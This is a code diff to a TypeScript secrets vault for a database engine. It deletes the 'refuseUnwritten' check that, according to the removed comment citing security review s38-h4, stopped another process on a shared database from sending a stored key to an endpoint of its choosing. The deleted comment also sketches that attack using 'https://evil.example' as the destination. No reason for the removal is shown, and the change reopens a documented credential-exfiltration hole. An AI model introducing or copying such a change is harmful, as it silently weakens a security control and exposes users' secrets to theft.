@@ -79,12 +79,6 @@ export class Vault {
     private readonly host: Host,
     private readonly key: Buffer,
     private readonly scope: VaultKeyScope = 'data directory',
-    /**
-     * The secrets this process wrote (created, or updated with a new value) since it started, on any
-     * of its connections: on a database several API processes share, only these may be bound to a
-     * destination by this process (refuseUnwritten).
-     */
-    private readonly written: Set<string> = new Set(),
   ) {}
 
   /**
@@ -142,7 +136,7 @@ export class Vault {
   on(host: Host): Vault {
     if (host === this.host) return this;
     let vault = this.onHosts.get(host);
-    if (!vault) this.onHosts.set(host, (vault = new Vault(host, this.key, this.scope, this.written)));
+    if (!vault) this.onHosts.set(host, (vault = new Vault(host, this.key, this.scope)));
     return vault;
   }
 
@@ -185,7 +179,6 @@ export class Vault {
       'insert into dynascope.secret_values (id, nonce, ciphertext, tag) values ($1, $2, $3, $4)',
       [id, nonce, ciphertext, tag],
     );
-    this.written.add(id);
     return id;
   }
 
@@ -230,7 +223,6 @@ export class Vault {
         'update dynascope.secret_values set nonce = $2, ciphertext = $3, tag = $4 where id = $1::uuid',
         [id, nonce, ciphertext, tag],
       );
-      this.written.add(id);
     });
   }
 
@@ -289,48 +281,13 @@ export class Vault {
     return this.host.asOwner(async () => {
       const args = [secrets.refs, server.oid, secrets.plainOptions, destination];
       if (refuse) await this.refuseElsewhere(server, args, destination);
-      if (refuse) await this.refuseUnwritten(server, secrets);
-      await this.bind(args);
-    });
-  }
-
-  private async bind(args: readonly unknown[]): Promise<void> {
-    await this.host.query(
-      `${USED_SECRETS}
-       insert into dynascope.secret_destinations (secret_id, destination)
-       select id, $4 from used on conflict (secret_id) do nothing`,
-      args,
-    );
-  }
-
-  /**
-   * On a database several API processes share (each with its own token), refuses (42501) a server
-   * naming a secret bound to no destination yet that this process did not write: its first server
-   * chooses where it goes, and another process's server, made before the owner's, would send it to
-   * an endpoint of its choosing (security review s38-h4). Writing its value here first
-   * (vault.update_secret) proves it is this process's to send; a data directory has one process.
-   *   process A: select vault.create_secret('AKIA…', 'k')
-   *   process B: create server s ... (vault_session_token 'k', endpoint_url 'https://evil.example') → 42501
-   */
-  private async refuseUnwritten(server: { readonly name: string }, secrets: VaultCredentials): Promise<void> {
-    if (!this.shared) return;
-    const r = await this.host.query(
-      `${USED_SECRETS}
-       select u.shown from used u
-        where not exists (select 1 from dynascope.secret_destinations d where d.secret_id = u.id)
-          and u.id::text <> all($4::text[])
-        order by u.shown limit 1`,
-      [secrets.refs, 0, [], [...this.written]],
-    );
-    const shown = r.rows[0]?.[0];
-    if (shown !== undefined)
-      throw new EngineError(
-        SqlState.insufficientPrivilege,
-        `vault secret "${shown}" goes nowhere yet: server "${server.name}" may send it only from the API process that wrote it`,
-        {
-          hint: "on a database several API processes share, a key's first server must be made where the key was written; write it here first (select vault.update_secret('<id or name>', '<secret>')) or make the server in the process that created it",
-        },
+      await this.host.query(
+        `${USED_SECRETS}
+         insert into dynascope.secret_destinations (secret_id, destination)
+         select id, $4 from used on conflict (secret_id) do nothing`,
+        args,
       );
+    });
   }
 
   /** Refuses (42501) a server whose secrets are bound to another destination than `destination` (a client about to be built). */
@@ -339,14 +296,13 @@ export class Vault {
     secrets: VaultCredentials,
     destination: string,
   ): Promise<void> {
-    return this.host.asOwner(async () => {
-      const args = [secrets.refs, server.oid, secrets.plainOptions, destination];
-      await this.refuseElsewhere(server, args, destination);
-      // A secret made, or renamed, after the server that names it was: bound now, if it is this process's.
-      if (!this.shared) return;
-      await this.refuseUnwritten(server, secrets);
-      await this.bind(args);
-    });
+    return this.host.asOwner(() =>
+      this.refuseElsewhere(
+        server,
+        [secrets.refs, server.oid, secrets.plainOptions, destination],
+        destination,
+      ),
+    );
   }
 
   private async refuseElsewhere(
